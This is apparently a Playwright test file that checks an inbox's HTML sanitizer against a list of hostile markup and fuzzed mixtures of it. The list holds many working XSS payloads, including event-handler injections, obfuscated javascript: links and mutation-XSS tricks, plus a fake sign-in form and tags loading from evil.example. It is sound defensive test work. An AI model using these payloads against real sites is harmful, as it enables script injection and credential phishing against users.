import { readFile } from 'node:fs/promises';
import { stripTypeScriptTypes } from 'node:module';
import type { Page } from '@playwright/test';
import { expect, test } from '@playwright/test';
import fc from 'fast-check';
import type { Markup } from '../../web/src/ui/markup.ts';
import { allowedMarkup } from '../../web/src/ui/markup.ts';

/** The reader of the inbox as a script, which leaves `readMarkup` in the page. */
const reader = async () =>
  stripTypeScriptTypes(await readFile(new URL('../../web/src/ui/markup.ts', import.meta.url), 'utf8')).replaceAll(
    /^export const (\w+)/gm,
    'globalThis.$1',
  );

/** Texts that would run, load or pretend something, were they shown as they came. */
const hostile = [
  '<script>globalThis.pwned = 1</script>',
  '<img src=x onerror="globalThis.pwned = 1">',
  '<svg onload="globalThis.pwned = 1"><script>globalThis.pwned = 1</script></svg>',
  '<svg><animate onbegin="globalThis.pwned = 1" attributeName=x dur=1s>',
  '<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x onerror=globalThis.pwned=1&gt;">',
  '<a href="javascript:globalThis.pwned=1">x</a>',
  '<a href=" &#x6a;avascript:globalThis.pwned=1">x</a>',
  '<a href="java\tscript:globalThis.pwned=1">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="vbscript:x" onclick="globalThis.pwned=1" style="position:fixed;inset:0" class="x" id="main">x</a>',
  '<a name="currentNonce" id="settings">x</a>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<iframe srcdoc="<script>parent.pwned = 1</script>"></iframe>',
  '<object data="https://evil.example/x"></object><embed src="https://evil.example/x">',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel=stylesheet href="https://evil.example/x.css"><style>* { display: none }</style>',
  '<video><source onerror="globalThis.pwned = 1"></video><audio src=x onerror="globalThis.pwned = 1">',
  '<details open ontoggle="globalThis.pwned = 1">x</details>',
  '<p onmouseover="globalThis.pwned = 1" data-x="1" aria-hidden="true">x</p>',
  '<template><img src=x onerror="globalThis.pwned = 1"></template>',
  '<noscript><p title="</noscript><img src=x onerror=globalThis.pwned=1>">',
  '<select><template><img src=x onerror="globalThis.pwned = 1"></template></select>',
  '<div><!--<img src="--><img src=x onerror=globalThis.pwned=1//">',
  '<b><i><a href="https://good.example" target="_blank">x</b></i>',
  '<x onclick=globalThis.pwned=1>x</x>',
];

/** Reads each text as the inbox reads it; returns what is left of it that is not allowed. */
const strangersIn = (page: Page, texts: string[]): Promise<string[]> =>
  page.evaluate(
    ([all, allowed]) => {
      const { readMarkup } = globalThis as unknown as { readMarkup: (html: string) => Markup[] }; // the script that was added
      const strangers = (part: Markup): string[] => {
        if (typeof part === 'string') return [];
        const link = document.createElement('a');
        link.href = part.attributes['href'] ?? '/';
        return [
          ...(allowed.tags.includes(part.tag) ? [] : [part.tag]),
          ...Object.keys(part.attributes).filter((name) => !allowed.attributes.includes(name)),
          ...(/^(https?|mailto|tel|ftp):$/.test(link.protocol) ? [] : [link.href]),
          ...part.content.flatMap(strangers),
        ];
      };
      return all.flatMap((text) =>
        readMarkup(text)
          .flatMap(strangers)
          .map((each) => `${each} of ${text}`),
      );
    },
    [texts, allowedMarkup] as const,
  );

test('hostile markup in a message is inert, alone and mixed', async ({ page }) => {
  await page.route('https://inbox.example/', (route) =>
    route.fulfill({ contentType: 'text/html', body: '<title>Inbox</title>' }),
  );
  const asked: string[] = [];
  page.on('request', (request) => void asked.push(request.url()));
  await page.goto('https://inbox.example/');
  await page.addScriptTag({ content: await reader() });
  expect(await strangersIn(page, hostile)).toEqual([]);
  const pieces = hostile.flatMap((text) => text.split(/(?=[<>"'= /])/));
  const mixture = fc.array(
    fc.oneof(fc.constantFrom(...hostile), fc.constantFrom(...pieces), fc.string({ maxLength: 8 })),
    { maxLength: 12 },
  );
  const texts = fc.sample(mixture, { numRuns: 1000, seed: 4 }).map((parts) => parts.join(''));
  expect(await strangersIn(page, texts)).toEqual([]);
  expect(await page.evaluate(() => 'pwned' in globalThis)).toBe(false);
  expect(asked.filter((url) => !url.startsWith('https://inbox.example/'))).toEqual([]);
  // What is allowed stays.
  const kept = await page.evaluate(() => {
    const { readMarkup } = globalThis as unknown as { readMarkup: (html: string) => Markup[] }; // the same
    return readMarkup('<p>a <u><strong>b</strong></u><br><em>c</em> <a href="/x" target="_blank">d</a></p>');
  });
  const element = (tag: string, content: Markup[], attributes = {}): Markup => ({ tag, attributes, content });
  const link = element('a', ['d'], { href: '/x', target: '_blank', rel: 'noopener noreferrer' });
  expect(kept).toEqual([
    element('p', ['a ', element('strong', ['b']), element('br', []), element('em', ['c']), ' ', link]),
  ]);
});
